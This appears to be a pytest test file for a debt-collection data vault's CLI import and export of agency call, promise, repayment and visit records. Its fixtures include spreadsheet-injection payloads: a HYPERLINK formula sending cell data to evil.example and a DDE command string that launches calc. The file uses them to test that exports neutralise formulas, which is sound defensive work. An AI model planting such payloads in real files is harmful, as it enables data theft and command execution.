"""What agencies send back (回盘): their own titles and a map file, end to end by the command line."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from pathlib import Path
from typing import Any, Final

import pytest
from commands import Ran, run
from kit import borrowers, export

PEOPLE: Final = borrowers(3)
FIRST, SECOND, THIRD = (row["案件编号"] for row in PEOPLE)
MAP: Final = {
    "我司案号": "contact_attempt.case_number", "通话方式": "contact_attempt.channel",
    "呼叫日": "contact_attempt.attempted_at", "呼叫号码": "contact_attempt.number_called",
    "呼叫反馈": "contact_attempt.result", "话后小结": "contact_attempt.note",
    "坐席": "contact_attempt.handler", "PTP额": "promise.amount", "PTP到期": "promise.due_on",
    "入账额": "repayment.amount", "入账日": "repayment.paid_on", "入账途径": "repayment.channel",
    "上门日": "visit.visited_on", "上门反馈": "visit.result", "内部评分": "",
}  # fmt: skip
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
DIGITS: Final = "+8613800000000说打错了"
COMMAND: Final = "@SUM(1+1)*cmd|'/C calc'!A0"
CALL: Final = {
    "通话方式": "电话", "呼叫日": "2026-03-09", "呼叫号码": "13827400000", "呼叫反馈": "承诺还款",
    "坐席": "E1", "内部评分": "7",
}  # fmt: skip
PROMISE: Final = {"PTP额": "3000", "PTP到期": "2026-03-31"}
ROWS: Final = (
    {"我司案号": FIRST, **CALL, **PROMISE, "话后小结": FORMULA},
    {"我司案号": FIRST, **CALL, "话后小结": COMMAND},
    {"我司案号": SECOND, "入账额": "500", "入账日": "2026-03-10", "入账途径": "微信", "内部评分": "9"},
    {
        "我司案号": THIRD, "通话方式": "外访", "呼叫日": "2026-03-08", "呼叫反馈": "失联",
        "话后小结": DIGITS, "上门日": "2026-03-08", "上门反馈": "无人在家",
    },
    {"我司案号": "AJ-404404", **CALL, **PROMISE, "话后小结": "查无此案"},
    {"我司案号": SECOND, **CALL, "呼叫日": "2026-02-30"},
)  # fmt: skip
STORED: Final = {"contact_attempt": 3, "promise": 1, "repayment": 1, "visit": 1}


class Agency:
    """A sandbox vault with three borrowers, and the agency's file beside it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        assert run("init", folder / "v", "--sandbox").code == 0
        (folder / "borrowers.csv").write_text(export(PEOPLE), "utf-8")
        assert self("import", folder / "borrowers.csv", "--kind", "borrower").code == 0
        self.file = folder / "results.csv"
        text = io.StringIO()
        writer = csv.DictWriter(text, list(MAP), restval="")
        writer.writeheader()
        writer.writerows(ROWS)
        self.file.write_bytes(text.getvalue().encode("gb18030"))
        columns = "\n".join(f"{json.dumps(t, ensure_ascii=False)} = {json.dumps(f)}" for t, f in MAP.items())
        (folder / "map.toml").write_text(f"[columns]\n{columns}\n", "utf-8")

    def __call__(self, *arguments: object) -> Ran:
        """Run a command in the vault."""
        return run("--vault", self.folder / "v", "--sandbox", *arguments, "--json")

    def take_in(self) -> tuple[Any, list[dict[str, Any]]]:
        """Import the file; what it did, and the faults in its report."""
        done = self("import", self.file, "--kind", "result", "--map", self.folder / "map.toml")
        assert done.code == 6, done.err
        lines = Path(done.json["report"]).read_text("utf-8").splitlines()
        return done.json, [json.loads(line) for line in lines[1:]]

    def token(self, role: str, purpose: str, *more: object) -> Path:
        """A token file for a role."""
        out = self.folder / f"{role}.token"
        who = self.folder / "v" / "admin.principal"
        out.unlink(missing_ok=True)
        made = run(
            "--vault", self.folder / "v", "token", "issue", "--as", who, "--role", role, "--purpose",
            purpose, *more, "--out", out,
        )  # fmt: skip
        assert made.code == 0, made.err
        return out

    def items(self, kind: str, *more: object) -> list[dict[str, Any]]:
        """Every record of a kind, in clear for the person it is about."""
        token = self.token("dpo", "subject_request", *more)
        found: list[dict[str, Any]] = self("list", "--kind", kind, "--token", token).json["items"]
        return found

    def clear(self, kind: str, field: str) -> Counter[Any]:
        """How often each value of a field stands."""
        return Counter(item["fields"][field]["value"] for item in self.items(kind))


@pytest.fixture
def agency(tmp_path: Path) -> Agency:
    """As it stands before the file comes."""
    return Agency(tmp_path)


def test_results_come_under_the_right_borrowers(agency: Agency) -> None:
    """Calls, promises, repayments and visits by the agency's own titles, each in its case's scope."""
    done, _ = agency.take_in()
    assert (done["rows"], done["rejected"], done["stored"]) == (6, 2, STORED)
    assert done["unknown"] == ["内部评分"]
    assert agency.clear("contact_attempt", "case_number") == {FIRST: 2, THIRD: 1}
    assert agency.clear("promise", "amount") == {"3000.00": 1}
    assert agency.clear("repayment", "paid_on") == {"2026-03-10": 1}
    assert agency.clear("visit", "result") == {"无人在家": 1}
    for kind, case, count in (
        ("contact_attempt", FIRST, 2),
        ("contact_attempt", SECOND, 0),
        ("promise", FIRST, 1),
        ("repayment", SECOND, 1),
        ("visit", THIRD, 1),
    ):
        assert len(agency.items(kind, "--cases", case)) == count, (kind, case)


def test_a_file_twice_changes_nothing(agency: Agency) -> None:
    """Rows without numbers of their own are known again by their content; the same rows are refused."""
    done, faults = agency.take_in()
    before = {kind: agency.clear(kind, "case_number") for kind in STORED}
    again, faults_again = agency.take_in()
    assert (again["stored"], again["unchanged"], again["rejected"]) == ({}, sum(STORED.values()), 2)
    assert faults_again == faults
    assert {kind: agency.clear(kind, "case_number") for kind in STORED} == before
    assert done["rejected"] == 2


def test_a_row_of_an_unknown_case_is_refused_and_the_others_stand(agency: Agency) -> None:
    """Each refused row is named with its field and what to do, without a value of it."""
    _, faults = agency.take_in()
    assert [(f["row"], f["code"]) for f in faults] == [(6, "invalid_date"), (5, "invalid_ref")]
    assert not [f for f in faults if "404404" in json.dumps(f) or "查无此案" in json.dumps(f)]
    assert all(f["remedy"] and f["field"] for f in faults)
    assert sum(agency.clear("contact_attempt", "case_number").values()) == 3


def test_formulas_stay_text_and_leave_as_text(agency: Agency) -> None:
    """What an agency writes as a formula is kept letter for letter; no cell of an export runs it."""
    agency.take_in()
    notes = agency.clear("contact_attempt", "note")
    assert set(notes) == {FORMULA, COMMAND, DIGITS}
    token = agency.token("dpo", "subject_request")
    out = agency.folder / "out.csv"
    assert agency("list", "--kind", "contact_attempt", "--token", token, "--csv", out).code == 0
    table = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    cells = [cell for row in table for cell in row]
    assert {f"'{note}" for note in notes} <= set(cells)
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\t\r") and cell.strip()]
